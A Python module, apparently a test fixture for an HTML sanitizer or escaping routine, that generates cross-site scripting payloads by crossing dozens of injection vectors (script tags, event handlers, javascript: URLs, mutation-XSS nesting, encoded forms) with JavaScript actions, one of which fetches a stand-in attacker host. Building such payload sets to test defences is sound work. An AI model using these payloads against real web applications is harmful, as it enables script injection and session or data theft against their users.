"""Hostile markup by combination: every way in × every deed. If one of them ran, a dialog would open."""

from __future__ import annotations

from itertools import product

DEEDS = ("alert(1)", "confirm(1)", "prompt`1`", "top.alert(1)", "eval('al'+'ert(1)')", "import('data:text/javascript,alert(1)')",
         "&#97;lert(1)", "\\u0061lert(1)", "setTimeout('alert(1)')", "document.title='hit'", "fetch('//evil.example')")  # fmt: skip
WAYS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<svg><script>{}</script>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href=' java\tscript:{}'>x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}>", "<object data='data:text/html,<script>{}</script>'>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>", "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=preload as=script href=//evil.example onload={}>", "<style>@import'javascript:{}'</style>", "<style onload={}></style>",
    "<div style=background:url(javascript:{})>", "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "\" onmouseover={} x=\"", "' autofocus onfocus={} x='", "`-{}-`", "'-{}-'", "\"-{}-\"", "javascript:{}", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "]]><script>{}</script>", "<!--><script>{}</script>-->", "<textarea></textarea><script>{}</script>", "</title><script>{}</script>",
    "<a id=words name=location href=javascript:{}>x</a>", "<form id=csrf_token name=body onsubmit={}></form>", "\u003cscript\u003e{}\u003c/script\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
PAYLOADS = tuple(way.format(deed) for way, deed in product(WAYS, DEEDS))
